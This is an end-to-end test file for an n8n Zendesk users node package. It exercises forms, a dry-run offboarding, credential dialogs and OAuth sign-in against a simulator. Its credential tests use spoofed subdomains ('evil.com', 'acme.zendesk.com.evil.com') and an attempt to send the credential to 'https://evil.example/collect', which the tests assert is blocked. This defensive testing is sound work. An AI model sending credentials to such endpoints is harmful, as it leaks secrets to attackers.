import type { INodeParameters, INodePropertyOptions, INodeTypeDescription } from 'n8n-workflow';
import type { Browser, Page } from 'playwright-core';
import { OPERATIONS } from '../../nodes/ZendeskUserSync/operations';
import { properties as activityForm } from '../../nodes/ZendeskActivityTrigger/form';
import { RESOURCES } from '../../nodes/ZendeskUsers/actions/resources';
import { type OffboardingWorkflow, setUpOffboarding } from '../../playground/offboarding';
import { type Playground, startPlayground } from '../../playground/playground';
import type { WorkflowNode } from '../../playground/rest';
import { EVENT_KINDS } from '../../zendesk/events/types';
import { partFrom } from '../part';
import type { User } from '../simulator';
import { type LeaverStory, tellLeaverStory } from '../stories/leaver';
import { openEditor, startBrowser } from './browser';
import {
	pictureOfCredential,
	pictureOfForm,
	pictureOfNodePanel,
	pictureOfOutput,
} from './editorPictures';
import { fieldsOf, formsWithEverything } from './everyParameter';
import { expectTemplateOpens } from './templateInEditor';

const PACK = 'n8n-nodes-zendesk-users';
const TYPE = `${PACK}.zendeskUsers`;
const SYNC = `${PACK}.zendeskUserSync`;

let playground: Playground;
let browser: Browser;
let page: Page;
let problems: string[];
let workflow: OffboardingWorkflow;
let story: LeaverStory;

beforeAll(async () => {
	playground = await startPlayground({ say: console.log });
	story = tellLeaverStory(playground.sim);
	playground.sim.search.refresh();
	browser = await startBrowser(playground);
	({ page, problems } = await openEditor(browser, playground));
});

afterAll(async () => {
	await browser?.close();
	await playground?.stop();
});

/** A user whom a person has picked from the list. */
const picked = ({ id, name, email }: User) => ({
	__rl: true,
	mode: 'list',
	value: String(id),
	cachedResultName: `${name} · ${email}`,
});

/** The credential that a person makes for an OAuth client of the simulated account. */
async function createCredential(name: string, more: Record<string, unknown> = {}) {
	const { sim, rest } = playground;
	const { id: clientId, secret: clientSecret } = sim.credentials.oauthClient;
	const data = {
		subdomain: 'acme',
		grantType: 'clientCredentials',
		access: 'readWrite',
		clientId,
		clientSecret,
		...more,
	};
	const credential = await rest.createCredential(name, 'zendeskUsersOAuth2Api', data);
	return { credential, data };
}

/** Publishes a workflow of one node behind a webhook; asking the webhook runs it and gives its first item. */
async function publishBehindWebhook(path: string, node: Partial<WorkflowNode>): Promise<string> {
	const { rest, n8n } = playground;
	const workflow = await rest.createWorkflow({
		name: `Webhook ${path}`,
		nodes: [
			{
				id: 'hook',
				name: 'Hook',
				type: 'n8n-nodes-base.webhook',
				typeVersion: 2.1,
				position: [0, 0],
				parameters: { path, responseMode: 'lastNode' },
				webhookId: path,
			},
			{
				id: 'node',
				name: 'Node',
				type: TYPE,
				typeVersion: 1,
				position: [220, 0],
				parameters: {},
				...node,
			},
		],
		connections: { Hook: { main: [[{ node: 'Node', type: 'main', index: 0 }]] } },
	});
	await rest.publish(workflow);
	const address = `${n8n.url}/webhook/${path}`;
	await n8n.untilKnown(address);
	return address;
}

it('n8n has loaded the pack as a community package', async () => {
	const types = (await playground.rest.nodeTypes()).map(({ name }) => name);
	expect(types).toContain(TYPE);
	expect(types).toContain(`${TYPE}Tool`);
	expect(types).toContain(SYNC);
});

it('the template opens with no missing node and nothing to complain about', async () => {
	workflow = await setUpOffboarding(playground);
	const { id } = workflow;
	const { nodes } = await playground.rest.get<{ nodes: WorkflowNode[] }>(`/workflows/${id}`);
	await expectTemplateOpens(page, playground, { id, nodes });
	expect(problems).toEqual([]);
});

it('the node panel shows every operation', async () => {
	await page.goto(`${playground.n8n.url}/workflow/${workflow.id}`);
	await page.locator('[data-test-id="canvas-node"]').first().waitFor();
	// High enough for all of them.
	await page.setViewportSize({ width: 1500, height: 1460 });
	await page.locator('[data-test-id="node-creator-plus-button"]').click();
	await page.locator('[data-test-id="node-creator-search-bar"]').fill('offboarding');
	await page.getByText('Zendesk Users', { exact: true }).first().click();
	const actions = RESOURCES.flatMap(({ operations }) => operations.map(({ action }) => action));
	expect(actions).toHaveLength(21);
	for (const action of actions) {
		await page.getByText(action, { exact: true }).first().waitFor();
	}
	await pictureOfNodePanel(page, 'node-panel');
});

/** The nodes of a form each, as they are opened first. */
function formNodes(): Array<Pick<WorkflowNode, 'id' | 'type' | 'parameters'>> {
	const users = RESOURCES.flatMap(({ value: resource, operations }) =>
		operations.map(({ value: operation }) => ({
			id: `${resource}-${operation}`,
			type: TYPE,
			parameters: { resource, operation },
		})),
	);
	const syncs = OPERATIONS.map(({ value: operation }) => ({
		id: `sync-${operation}`,
		type: SYNC,
		parameters: { operation },
	}));
	const { options } = activityForm.find(({ name }) => name === 'triggerOn')!;
	const changes = [[], EVENT_KINDS.map(({ value }) => value)].map((triggerOn, i) => ({
		id: `changes-${i}`,
		type: `${PACK}.zendeskUsersTrigger`,
		parameters: { triggerOn },
	}));
	const activities = (options as INodePropertyOptions[]).map(({ value: triggerOn }) => ({
		id: `activities-${String(triggerOn)}`,
		type: `${PACK}.zendeskActivityTrigger`,
		parameters: { triggerOn },
	}));
	return [...users, ...syncs, ...changes, ...activities];
}

/** So many forms are opened where not all of them are. */
const FORMS_OF_PART = 8;

describe('each form', () => {
	const forms = formNodes();
	let credential: { id: string; name: string };
	let types: INodeTypeDescription[];

	beforeAll(async () => {
		({ credential } = await createCredential('Zendesk'));
		types = (await playground.rest.nodeTypes()) as INodeTypeDescription[];
	});

	const descriptionFor = (type: unknown) => types.find(({ name }) => name === type)!;

	/** Shows these nodes on the canvas, in a window high enough for all that is in a form. */
	async function lay(nodes: Array<Pick<WorkflowNode, 'id' | 'type' | 'parameters'>>) {
		const { id } = await playground.rest.createWorkflow({
			name: 'Forms',
			nodes: nodes.map((node, i) => ({
				name: String(node.id),
				typeVersion: 1,
				position: [(i % 6) * 220, Math.floor(i / 6) * 220],
				credentials: { zendeskUsersOAuth2Api: credential },
				...node,
			})),
			connections: {},
		});
		await page.setViewportSize({ width: 1500, height: 3600 });
		await page.goto(`${playground.n8n.url}/workflow/${id}`);
		await page.locator('[data-test-id="canvas-node"]').first().waitFor();
		await page.waitForFunction(() => document.getAnimations().length === 0);
	}

	/** Opens one of them, looks at it and closes it. */
	async function open(id: unknown, look: () => Promise<void>): Promise<void> {
		await page.locator(`[data-test-id="canvas-node"][data-node-name="${String(id)}"]`).dblclick();
		const form = page.locator('[data-test-id="node-parameters"]');
		await form.waitFor();
		await page.mouse.move(0, 0);
		// Lists that Zendesk fills are read when the form opens.
		await page.waitForLoadState('networkidle');
		await look();
		await page.locator('[data-test-id="ndv-close-button"]').click();
		await form.waitFor({ state: 'hidden' });
	}

	/** The names of the fields that are there, whatever n8n has drawn them with. */
	const fields = async () =>
		await page
			.locator('[data-test-id="node-parameters"] [data-test-id^="parameter-input-"]')
			.evaluateAll((all) =>
				all.map((field) => field.getAttribute('data-test-id')!.replace('parameter-input-', '')),
			);

	afterEach(() => expect(problems).toEqual([]));

	it('is one of those that there are', () => {
		expect(forms).toHaveLength(21 + 3 + 2 + 4);
		expect(new Set(forms.map(({ id }) => id)).size).toBe(forms.length);
	});

	it('opens', async () => {
		const { leaver, successor } = story;
		const people = { leaver: picked(leaver), successor: picked(successor) };
		await lay(
			forms.map((node) =>
				node.id === 'user-offboard'
					? { ...node, parameters: { ...node.parameters, ...people } }
					: node,
			),
		);
		for (const { id } of partFrom(forms, FORMS_OF_PART)) {
			await open(id, async () => await pictureOfForm(page, `form-${String(id)}`));
		}
	});

	it('shows each of its parameters, with every option added', async () => {
		const all = forms.flatMap((node) =>
			formsWithEverything(descriptionFor(node.type), node.parameters as INodeParameters).map(
				(parameters, i) => ({ ...node, id: `${String(node.id)}-full-${i + 1}`, parameters }),
			),
		);
		expect(all.length).toBeGreaterThan(forms.length);
		const nodes = partFrom(all, FORMS_OF_PART);
		await lay(nodes);
		for (const { id, type, parameters } of nodes) {
			await open(id, async () => {
				await pictureOfForm(page, `form-${id}`);
				const shown = await fields();
				const expected = fieldsOf(descriptionFor(type), parameters);
				expect([id, ...expected.filter((name) => !shown.includes(name))]).toEqual([id]);
			});
		}
	});

	it('has lists that Zendesk fills', async () => {
		await lay([{ id: 'list', type: TYPE, parameters: { operation: 'offboard' } }]);
		await open('list', async () => {
			await page.locator('[data-test-id="rlc-input"]').first().click();
			await page.getByText('Bob Successor · bob@acme.example').first().waitFor();
			await pictureOfForm(page, 'list-of-staff');
			await page.keyboard.press('Escape');
		});
	});
});

it('the form of Offboard, filled in, shows what a dry run says', async () => {
	const { credential } = await createCredential('Zendesk');
	const { leaver, successor } = story;
	const manual = 'n8n-nodes-base.manualTrigger';
	const { id } = await playground.rest.createWorkflow({
		name: 'Dry run',
		nodes: [
			{ id: 'go', name: 'Go', type: manual, typeVersion: 1, position: [0, 0], parameters: {} },
			{
				id: 'offboard',
				name: 'Offboard user',
				type: TYPE,
				typeVersion: 1,
				position: [220, 0],
				parameters: {
					resource: 'user',
					operation: 'offboard',
					leaver: picked(leaver),
					successor: picked(successor),
					dryRun: true,
				},
				credentials: { zendeskUsersOAuth2Api: credential },
			},
		],
		connections: { Go: { main: [[{ node: 'Offboard user', type: 'main', index: 0 }]] } },
	});
	const before = playground.sim.log.writes().length;
	await page.setViewportSize({ width: 1500, height: 950 });
	await page.goto(`${playground.n8n.url}/workflow/${id}/offboard`);
	await page.locator('[data-test-id="node-parameters"]').waitFor();
	await page.waitForLoadState('networkidle');
	await page.locator('[data-test-id="node-execute-button"]').click();
	const output = page.locator('[data-test-id="output-panel"]');
	await output.getByText('would_be').waitFor();
	await output.getByText('Ann Leaver').waitFor();
	await page.getByText('Node executed successfully').waitFor();
	await page.locator('.el-notification__closeBtn').click();
	await page.getByText('Node executed successfully').waitFor({ state: 'hidden' });
	await output.locator('[data-test-id="radio-button-schema"]').click();
	await output.getByText('dry_run').waitFor();
	await pictureOfOutput(page, 'offboard-output');
	expect(playground.sim.log.writes()).toHaveLength(before);
	expect(problems).toEqual([]);
});

describe('the dialog of each credential', () => {
	it('opens with nothing to complain about', async () => {
		const { sim, rest, n8n } = playground;
		const { email, token: apiToken } = sim.credentials.apiToken;
		const { credential: oauth2 } = await createCredential('Zendesk');
		const zephr = { tenantId: 'news', accessKey: 'e.g.', secretKey: 'e.g.' };
		const dialogs = {
			oauth2,
			'api-token': await rest.createCredential('Zendesk token', 'zendeskUsersApi', {
				subdomain: 'acme',
				email,
				apiToken,
			}),
			zephr: await rest.createCredential('Zephr', 'zephrApi', zephr),
		};
		await page.setViewportSize({ width: 1500, height: 950 });
		for (const [name, { id }] of Object.entries(dialogs)) {
			await page.goto(`${n8n.url}/home/credentials/${id}`);
			await page.locator('[data-test-id="credential-connection-parameter"]').first().waitFor();
			await page.waitForLoadState('networkidle');
			await pictureOfCredential(page, `credential-${name}`);
		}
		expect(problems).toEqual([]);
	});
});

describe('the credential’s Test button', () => {
	it('says that client credentials work, before anything has run', async () => {
		const { credential, data } = await createCredential('Zendesk to test');
		await expect(
			playground.rest.testCredential(credential, 'zendeskUsersOAuth2Api', data),
		).resolves.toEqual({ status: 'OK', message: 'Connection successful!' });
	});

	it.each([
		['a pasted address', 'https://acme.zendesk.com/agent/dashboard', 'OK', 'successful'],
		['an unknown account', 'nobody', 'Error', ''],
		['another host', 'evil.com', 'Error', ''],
		['another host in disguise', 'acme.zendesk.com.evil.com', 'Error', ''],
	])('%s', async (_name, subdomain, status, words) => {
		const before = playground.proxy.outsiders.length;
		const { credential, data } = await createCredential(`Zendesk ${subdomain}`, { subdomain });
		const answer = await playground.rest.testCredential(credential, 'zendeskUsersOAuth2Api', data);
		expect(answer.status).toBe(status);
		expect(answer.message).toContain(words);
		const reached = playground.proxy.outsiders
			.slice(before)
			.filter((host) => !host.endsWith('n8n.io'));
		expect(reached.filter((host) => !/\.zendesk\.com|\.invalid/.test(host))).toEqual([]);
	});

	it('tells an API token from a wrong one, which Zendesk answers with 200', async () => {
		const { sim, rest } = playground;
		const { email, token } = sim.credentials.apiToken;
		const test = async (apiToken: string) => {
			const data = { subdomain: 'acme', email, apiToken };
			const credential = await rest.createCredential('Token', 'zendeskUsersApi', data);
			return await rest.testCredential(credential, 'zendeskUsersApi', data);
		};
		expect(await test(token)).toEqual({ status: 'OK', message: 'Connection successful!' });
		expect(await test('wrong')).toMatchObject({
			status: 'Error',
			message: expect.stringContaining('to nobody in particular'),
		});
	});
});

it('the credential goes nowhere but to Zendesk, not even from an HTTP Request node', async () => {
	const { proxy } = playground;
	const { credential } = await createCredential('Zendesk for requests');
	const ask = async (path: string, url: string) => {
		const address = await publishBehindWebhook(path, {
			type: 'n8n-nodes-base.httpRequest',
			typeVersion: 4.3,
			parameters: {
				url,
				authentication: 'predefinedCredentialType',
				nodeCredentialType: 'zendeskUsersOAuth2Api',
			},
			credentials: { zendeskUsersOAuth2Api: credential },
		});
		return (await fetch(address)).status;
	};
	expect(await ask('to-zendesk', 'https://acme.zendesk.com/api/v2/users/me')).toBe(200);
	expect(await ask('to-evil', 'https://evil.example/collect')).toBe(500);
	expect(proxy.outsiders.join()).not.toContain('evil.example');
});

describe('signing in through the browser', () => {
	it.each(['authorizationCode', 'pkce'])('%s', async (grantType) => {
		const { sim, rest, n8n } = playground;
		const redirect = `${n8n.url}/rest/oauth2-credential/callback`;
		const { oauthClients } = sim.store;
		const client = oauthClients.first('identifier', sim.credentials.oauthClient.id)!;
		oauthClients.update(client, { redirect_uri: [redirect] });
		// PKCE is for public clients, which have no secret.
		const identifier = grantType === 'pkce' ? 'n8n_public' : client.identifier;
		if (grantType === 'pkce') {
			oauthClients.insert({ ...client, id: client.id + 1, identifier, kind: 'public' });
		}
		sim.store.browserUserId = sim.credentials.adminId;
		const { credential } = await createCredential(`Zendesk by ${grantType}`, {
			grantType,
			clientId: identifier,
			...(grantType === 'pkce' ? { clientSecret: '' } : {}),
		});
		const url = await rest.get<string>('/oauth2-credential/auth', { id: credential.id });
		expect(new URL(url).host).toBe('acme.zendesk.com');
		expect(new URL(url).searchParams.get('scope')).toBe('read write');
		expect(new URL(url).searchParams.has('code_challenge')).toBe(grantType === 'pkce');

		const window = await page.context().newPage();
		await window.goto(url);
		await window
			.getByText(/connected|success/i)
			.first()
			.waitFor();
		await window.close();

		const address = await publishBehindWebhook(`who-${grantType}`, {
			parameters: {
				resource: 'user',
				operation: 'get',
				user: { __rl: true, mode: 'id', value: String(sim.credentials.adminId) },
			},
			credentials: { zendeskUsersOAuth2Api: credential },
		});
		const answer = await (await fetch(address)).json();
		expect(answer).toMatchObject({ id: sim.credentials.adminId });
	});
});
